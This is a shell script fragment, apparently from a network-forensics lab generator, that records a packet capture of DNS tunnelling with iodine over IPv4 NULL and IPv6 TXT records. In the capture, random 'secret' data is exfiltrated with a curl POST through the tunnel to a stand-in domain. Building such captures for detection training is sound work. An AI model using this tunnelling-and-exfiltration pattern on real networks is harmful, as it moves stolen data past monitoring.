# IP through DNS with iodine: pc1 asks the resolver over IPv4 with NULL records, pc2 over IPv6 with TXT records.
record_dns_tunnel_iodine() {
  local folder=$1
  mkdir -p "$WORK/secret"
  head -c 40000 /dev/urandom > "$WORK/secret/elevliste.bin"
  ip netns exec tunnel iodined -f -c -P lab-password 10.99.0.1/24 t.skygge.example >"$WORK/iodined.out" 2>&1 &
  local server=$!
  sleep 1
  ip netns exec tunnel /usr/bin/python3 "$LAB_DIR/sink.py" 10.99.0.1 8000 &
  local sink=$!
  start_capture
  ordinary_round
  tunnel_transfer pc1 4 NULL 192.0.2.53
  ordinary_round
  tunnel_transfer pc2 6 TXT 2001:db8:f::53
  ordinary_round
  stop_capture
  kill "$server" "$sink" 2>/dev/null || true
  retime 2026-03-05T13:05:00Z
  editcap -F pcapng "$WORK/timed.pcap" "$WORK/timed.pcapng"
  gzip -9 -n -c "$WORK/timed.pcapng" > "$folder/capture.pcapng.gz"
}

tunnel_transfer() {
  local host=$1 family=$2 type=$3 resolver=$4
  ip netns exec "$host" iodine "-$family" -f -r -T "$type" -m 500 -P lab-password "$resolver" t.skygge.example >"$WORK/iodine-$host.out" 2>&1 &
  local client=$!
  local attempt
  for attempt in 1 2 3 4 5 6 7 8 9 10; do
    sleep 1
    on "$host" ping -c 1 -W 1 10.99.0.1 >/dev/null 2>&1 && break
  done
  echo "  $host: tunnel up after $attempt s"
  ordinary_round
  on "$host" curl -s -m 40 -o /dev/null --data-binary "@$WORK/secret/elevliste.bin" http://10.99.0.1:8000/ || echo "  $host: transfer was cut"
  kill "$client" 2>/dev/null || true
  wait "$client" 2>/dev/null || true
}
